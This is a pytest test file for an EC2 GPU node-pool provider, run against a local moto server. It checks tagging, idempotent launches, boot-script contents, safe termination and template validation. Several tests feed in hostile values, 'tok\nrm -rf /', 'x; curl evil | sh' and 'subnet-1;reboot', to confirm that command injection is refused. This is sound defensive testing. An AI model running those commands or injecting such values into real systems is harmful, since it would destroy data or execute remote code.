"""The `ec2` node-pool provider against moto's standalone EC2 server: launch templates, ClientToken
idempotency, ownership tags, the user-data boot script, terminating only the fleet's own instances."""

from __future__ import annotations

import base64
import dataclasses
import uuid
from types import SimpleNamespace

import boto3
import pytest
from botocore.exceptions import ClientError, EndpointConnectionError, ReadTimeoutError

from endpoints.fleet.providers import ec2, get_provider
from endpoints.fleet.providers.base import (
    LaunchSpec,
    NotThisFleets,
    PoolSpec,
    ProviderError,
    ProviderUnreachable,
)
from tests.processes import free_port

TOKEN = "jt_ec2-one-use-join-token-0123456789"
REGION = "us-east-1"


@pytest.fixture(scope="module")
def moto_endpoint():
    from moto.server import ThreadedMotoServer

    port = free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port)
    server.start()
    yield f"http://127.0.0.1:{port}"
    server.stop()


@pytest.fixture(scope="module")
def network(moto_endpoint):
    """A VPC with two subnets and a launch template, once for the module (moto is slow to start them)."""
    client = boto3.client("ec2", endpoint_url=moto_endpoint, region_name=REGION,
                          aws_access_key_id="test", aws_secret_access_key="test")
    vpc = client.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnets = [
        client.create_subnet(VpcId=vpc, CidrBlock=f"10.0.{index}.0/24", AvailabilityZone=f"{REGION}{zone}")["Subnet"]["SubnetId"]
        for index, zone in enumerate("ab")
    ]
    image = client.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    # NOTE: moto's state is the process's: another module using this fixture (`test_fleet_marking`) needs its own name
    name = f"gpu-nodes-{uuid.uuid4().hex[:8]}"
    client.create_launch_template(LaunchTemplateName=name, LaunchTemplateData={"ImageId": image, "InstanceType": "g5.xlarge"})
    return client, subnets, name


@pytest.fixture
def aws(network, moto_endpoint, monkeypatch, settings):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
    settings.EC2_ENDPOINT_URL = moto_endpoint
    settings.FLEET_ID = f"fleet-{free_port()}"  # each test its own fleet: moto's instances outlive tests
    return network


INSTALLATION_ID = "6b1d4a0e-3c2f-4e8a-9d7b-5a4c3b2a1f00"  # `FleetInstallation.current_id()` of this control plane


def _pool(subnets, template_name, **extra) -> PoolSpec:
    template = {"region": REGION, "launch_template": {"name": template_name, "version": "$Latest"},
                "subnets": subnets, "agent_image": "registry.example.com/inferplane/agent:0.1.0",
                "instance_type": "g5.xlarge", "agent_args": ["--no-zygote"], **extra}
    assert get_provider("ec2").template_errors(template) == {}
    return PoolSpec(id=3, name="a10g", gpu_type="a10g-24gb", gpus_per_node=1, gpu_memory_mb=24576, template=template,
                    installation_id=INSTALLATION_ID)


def _spec(launch_id: str, zone: str = "") -> LaunchSpec:
    return LaunchSpec(launch_id=launch_id, name=f"a10g-{launch_id[:8]}", join_token=TOKEN,
                      control_plane_url="https://inferplane.example.com", zone=zone)


def _instance(client, instance_id: str) -> dict:
    return client.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]


def test_launch_runs_an_instance_from_the_launch_template_tagged_as_the_fleets(aws, settings):
    client, subnets, name = aws
    pool = _pool(subnets, name)
    [result] = get_provider("ec2").launch(pool, [_spec("5f0c2b8e-0000-4000-8000-000000000001", zone=subnets[1])])

    assert result.error == "" and result.provider_id.startswith("i-") and result.zone == subnets[1]
    instance = _instance(client, result.provider_id)
    tags = {tag["Key"]: tag["Value"] for tag in instance["Tags"]}
    assert tags[ec2.TAG_MANAGED_BY] == settings.FLEET_ID
    assert tags[ec2.TAG_POOL] == "3" and tags[ec2.TAG_LAUNCH] == "5f0c2b8e-0000-4000-8000-000000000001"
    assert instance["SubnetId"] == subnets[1] and instance["InstanceType"] == "g5.xlarge"


def test_the_same_launch_id_twice_makes_one_instance(aws):
    client, subnets, name = aws
    pool, spec = _pool(subnets, name), _spec("5f0c2b8e-0000-4000-8000-000000000002")
    [first] = get_provider("ec2").launch(pool, [spec])
    [again] = get_provider("ec2").launch(pool, [spec])

    assert again.provider_id == first.provider_id
    assert [m.provider_id for m in get_provider("ec2").list(pool)] == [first.provider_id]
    # EC2's own idempotency key (AWS answers a repeated token with the same instance; moto does not
    # deduplicate, which is why the provider's look by launch tag is tested above).
    assert _instance(client, first.provider_id)["ClientToken"] == spec.launch_id


def test_user_data_starts_the_agent_image_with_the_join_token_only_in_a_private_environment_file(aws):
    client, subnets, name = aws
    [result] = get_provider("ec2").launch(_pool(subnets, name), [_spec("5f0c2b8e-0000-4000-8000-000000000003")])

    encoded = client.describe_instance_attribute(InstanceId=result.provider_id, Attribute="userData")["UserData"]["Value"]
    script = base64.b64decode(encoded).decode()
    assert script.startswith("#!/bin/bash\n")
    assert script.count(TOKEN) == 1
    token_line = next(line for line in script.splitlines() if TOKEN in line)
    assert token_line == f"INFERPLANE_JOIN_TOKEN={TOKEN}"  # inside the quoted here-document, nowhere else
    assert "<<'INFERPLANE_AGENT_ENV'" in script and "chmod 0600 /etc/inferplane/agent.env" in script
    run = script[script.index("docker run"):]
    assert "--gpus all" in run and "--env-file /etc/inferplane/agent.env" in run
    assert "registry.example.com/inferplane/agent:0.1.0 python -m gpu_agent run" in run
    assert "--control-plane https://inferplane.example.com" in run and "--name a10g-5f0c2b8e" in run
    assert run.rstrip().endswith("--no-zygote")


def test_a_token_or_name_that_could_escape_the_script_is_refused(aws):
    _, subnets, name = aws
    hostile = LaunchSpec(launch_id="5f0c2b8e-0000-4000-8000-000000000004", name="x", join_token="tok\nrm -rf /",
                         control_plane_url="https://inferplane.example.com")
    [result] = get_provider("ec2").launch(_pool(subnets, name), [hostile])
    assert result.provider_id == "" and "join token" in result.error
    assert get_provider("ec2").template_errors({**_pool(subnets, name).template, "agent_image": "x; curl evil | sh"}) == {
        "template.agent_image": ["A container image reference: letters, digits and . _ : / @ + = - only."]}


def test_terminate_releases_only_instances_the_fleet_launched(aws):
    client, subnets, name = aws
    pool = _pool(subnets, name)
    provider = get_provider("ec2")
    [result] = provider.launch(pool, [_spec("5f0c2b8e-0000-4000-8000-000000000005")])
    stranger = client.run_instances(LaunchTemplate={"LaunchTemplateName": name}, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    other_pool = PoolSpec(id=4, name="other", gpu_type="a10g-24gb", gpus_per_node=1, gpu_memory_mb=1, template=pool.template)

    with pytest.raises(ProviderError, match="not launched by this fleet"):
        provider.terminate(pool, stranger)
    with pytest.raises(ProviderError, match="not launched by this fleet"):
        provider.terminate(other_pool, result.provider_id)
    assert _instance(client, stranger)["State"]["Name"] == "running"

    provider.terminate(pool, result.provider_id)
    assert _instance(client, result.provider_id)["State"]["Name"] in ("shutting-down", "terminated")
    assert provider.list(pool) == []
    provider.terminate(pool, result.provider_id)  # again: nothing happens
    provider.terminate(pool, "i-0123456789abcdef0")  # never existed: nothing happens


def test_list_shows_the_pools_live_instances_with_their_launch_ids(aws):
    client, subnets, name = aws
    pool = _pool(subnets, name)
    provider = get_provider("ec2")
    results = provider.launch(pool, [_spec(f"5f0c2b8e-0000-4000-8000-00000000001{n}") for n in range(3)])
    client.run_instances(LaunchTemplate={"LaunchTemplateName": name}, MinCount=1, MaxCount=1)  # not ours
    provider.terminate(pool, results[0].provider_id)

    machines = sorted(provider.list(pool), key=lambda m: m.launch_id)
    assert [(m.provider_id, m.launch_id, m.state) for m in machines] == [
        (r.provider_id, r.launch_id, "running") for r in results[1:]]
    assert machines[0].node_name == "a10g-5f0c2b8e"
    assert all(m.fleet_marked for m in machines)  # the stray sweep's condition: this fleet's tags


def test_an_instance_another_installation_launched_under_the_same_fleet_id_and_pool_id_is_never_marked(aws, settings):
    """Staging and production in one account and region, both on the default fleet id, each with its pool 1.

    Before, the marking was the fleet id and the pool id alone: the other installation's instance was listed as
    `fleet_marked`, and its stray sweep terminated it (a JOINED node running customers' replicas)."""
    client, subnets, name = aws
    ours, theirs = _pool(subnets, name), dataclasses.replace(_pool(subnets, name), installation_id=str(uuid.uuid4()))
    provider = get_provider("ec2")
    [mine, legacy] = provider.launch(ours, [_spec(str(uuid.uuid4())), _spec(str(uuid.uuid4()))])
    [other] = provider.launch(theirs, [_spec(str(uuid.uuid4()))])
    client.delete_tags(Resources=[legacy.provider_id], Tags=[{"Key": ec2.TAG_INSTALLATION}])  # launched before it

    assert {tag["Key"]: tag["Value"] for tag in _instance(client, mine.provider_id)["Tags"]}[ec2.TAG_INSTALLATION] == \
        INSTALLATION_ID
    marked = {machine.provider_id: machine.fleet_marked for machine in provider.list(ours)}
    assert marked == {mine.provider_id: True, other.provider_id: False, legacy.provider_id: False}


def test_a_termination_ec2_does_not_answer_is_an_unreachable_provider_not_a_raw_error(aws, monkeypatch):
    """Before, only ClientError was caught around `terminate_instances`: a read timeout escaped as botocore's own
    exception, and the stray sweep's claim was never given back nor the pool's other strays reached."""
    client, subnets, name = aws
    pool = _pool(subnets, name)
    provider = get_provider("ec2")
    [result] = provider.launch(pool, [_spec(str(uuid.uuid4()))])
    ec2_client, real = ec2._client(REGION), ec2._client(REGION).terminate_instances

    def terminate_then_time_out(**kwargs):
        real(**kwargs)  # EC2 did it; the answer was lost
        raise ReadTimeoutError(endpoint_url="https://ec2.us-east-1.amazonaws.com")

    monkeypatch.setattr(ec2_client, "terminate_instances", terminate_then_time_out)
    with pytest.raises(ProviderUnreachable, match="did not answer a termination"):
        provider.terminate(pool, result.provider_id)
    assert _instance(client, result.provider_id)["State"]["Name"] in ("shutting-down", "terminated")


def test_an_instance_launched_under_another_fleet_id_is_refused_as_not_this_fleets(aws, settings):
    """What a changed `INFERPLANE_FLEET_ID` does to the running instances: `NotThisFleets`, which the release gives up
    on (`pool_release.give_up_release`) instead of retrying every tick."""
    client, subnets, name = aws
    pool = _pool(subnets, name)
    provider = get_provider("ec2")
    [result] = provider.launch(pool, [_spec(str(uuid.uuid4()))])
    settings.FLEET_ID = settings.FLEET_ID + "-renamed"
    assert provider.list(pool) == []
    with pytest.raises(NotThisFleets, match="not launched by this fleet"):
        provider.terminate(pool, result.provider_id)
    assert _instance(client, result.provider_id)["State"]["Name"] == "running"


def test_a_capacity_refusal_is_a_clear_error_for_that_launch(aws, monkeypatch):
    _, subnets, name = aws
    provider = get_provider("ec2")
    client = ec2._client(REGION)

    def no_capacity(**request):
        raise ClientError({"Error": {"Code": "InsufficientInstanceCapacity", "Message": "We currently do not have sufficient g5.xlarge capacity"}}, "RunInstances")

    monkeypatch.setattr(client, "run_instances", no_capacity)  # moto never runs out
    [result] = provider.launch(_pool(subnets, name), [_spec("5f0c2b8e-0000-4000-8000-000000000020", zone=subnets[0])])
    assert result.provider_id == "" and result.zone == subnets[0]
    assert result.error.startswith(f"EC2 has no capacity for g5.xlarge in {subnets[0]}")


@pytest.mark.parametrize("failure", ["listing unreachable", "listing 503", "launch 500", "token used with a new join token"])
def test_a_launch_ec2_may_have_started_is_never_answered_as_a_refusal(aws, monkeypatch, failure):
    # A resend after a lost answer looks for its machine first: a listing EC2 did not answer was read as a refusal,
    # the launch failed, and the machine the first call started ran unseen and paid for. So did a launch whose
    # token EC2 had used (the resend carries a new join token) and a 5xx.
    _, subnets, name = aws
    client = ec2._client(REGION)

    def fails(**request):
        if failure == "listing unreachable":
            raise EndpointConnectionError(endpoint_url="https://ec2.us-east-1.amazonaws.com")
        code, status = {"listing 503": ("Unavailable", 503), "launch 500": ("InternalError", 500),
                        "token used with a new join token": ("IdempotentParameterMismatch", 400)}[failure]
        raise ClientError({"Error": {"Code": code, "Message": "..."}, "ResponseMetadata": {"HTTPStatusCode": status}},
                          "DescribeInstances" if failure.startswith("listing") else "RunInstances")

    if failure.startswith("listing"):
        monkeypatch.setattr(client, "get_paginator", lambda operation: SimpleNamespace(paginate=lambda **kw: fails()))
    else:
        monkeypatch.setattr(client, "run_instances", fails)
    with pytest.raises(ProviderUnreachable):
        get_provider("ec2").launch(_pool(subnets, name), [_spec("5f0c2b8e-0000-4000-8000-000000000021")])


def test_templates_are_checked_field_by_field():
    errors = get_provider("ec2").template_errors
    good = {"region": "eu-west-1", "launch_template": {"id": "lt-0abc12345def67890"}, "agent_image": "inferplane/agent:1"}
    assert errors(good) == {}
    assert errors({**good, "iam_instance_profile": "arn:aws:iam::123456789012:instance-profile/inferplane-agent"}) == {}
    assert set(errors({})) == {"template.region", "template.launch_template", "template.agent_image"}
    assert "template.launch_template" in errors({**good, "launch_template": {"id": "lt-0abc12345def67890", "name": "x"}})
    assert "template.subnets" in errors({**good, "subnets": ["subnet-1;reboot"]})
    assert "template.agent_args" in errors({**good, "agent_args": ["--join-token", "x"]})
    assert "template.instance_type" in errors({**good, "instance_type": "g5 xlarge"})
    assert get_provider("ec2").zones({**good, "subnets": ["subnet-0123abcd", "subnet-4567ef01"]}) == [
        "subnet-0123abcd", "subnet-4567ef01"]
    assert get_provider("ec2").zones(good) == [""]


def test_a_pool_without_a_region_is_a_clear_error_not_a_crash(aws):
    pool = PoolSpec(id=3, name="a10g", gpu_type="a10g-24gb", gpus_per_node=1, gpu_memory_mb=1, template={})
    with pytest.raises(ProviderError, match="names no AWS region"):
        get_provider("ec2").list(pool)
    with pytest.raises(ProviderError, match="invalid template"):
        get_provider("ec2").launch(pool, [_spec("5f0c2b8e-0000-4000-8000-000000000030")])
